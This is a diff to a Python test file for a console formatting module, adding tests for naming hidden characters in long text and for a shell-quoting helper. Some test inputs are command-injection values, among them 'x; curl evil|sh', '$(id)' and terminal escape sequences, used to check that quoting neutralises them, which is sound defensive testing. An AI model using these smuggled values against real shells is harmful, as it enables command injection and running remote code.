@@ -1,8 +1,10 @@
 from __future__ import annotations
 
+import shlex
+
 import pytest
 
-from app.http.console.formats import ago, duration, instant, many, number, readable, setting, size
+from app.http.console.formats import ago, duration, instant, many, number, readable, setting, shell, size
 
 
 @pytest.mark.parametrize(
@@ -39,6 +41,24 @@ def test_a_timestamp_is_shown_in_utc_whatever_it_is() -> None:
 def test_hidden_characters_are_named() -> None:
     assert readable("a\u202eb\x00\u200bc\n") == "a⟨202E⟩b⟨0000⟩⟨200B⟩c\n"
     assert readable("Grüße 冰 🧊") == "Grüße 冰 🧊"
+
+
+def test_a_long_text_of_hidden_characters_is_named_in_steps() -> None:
+    text = "\x01a\u200b" * 100_000
+    steps = readable.steps(text)
+    assert sum(1 for _ in steps) >= 9
+    assert readable(text) == "⟨0001⟩a⟨200B⟩" * 100_000
+
+
+def test_a_command_quotes_names_for_a_shell() -> None:
+    assert shell("firn group describe {}", "team.a") == "firn group describe team.a"
+    for name in ("x; curl evil|sh", "$(id)", "`id`", "a'b", "{}", ""):
+        assert shlex.split(shell("firn group describe {} --all", name)) == ["firn", "group", "describe", name, "--all"]
+
+
+@pytest.mark.parametrize("name", ["x\nid", "x\rid", "x\x1b[201~", "x\u202ey", "x\u2028y", "--help"])
+def test_there_is_no_command_for_a_name_that_does_not_show_its_effect(name: str) -> None:
+    assert shell("firn group describe {}", name) == ""
 
 
 @pytest.mark.parametrize(
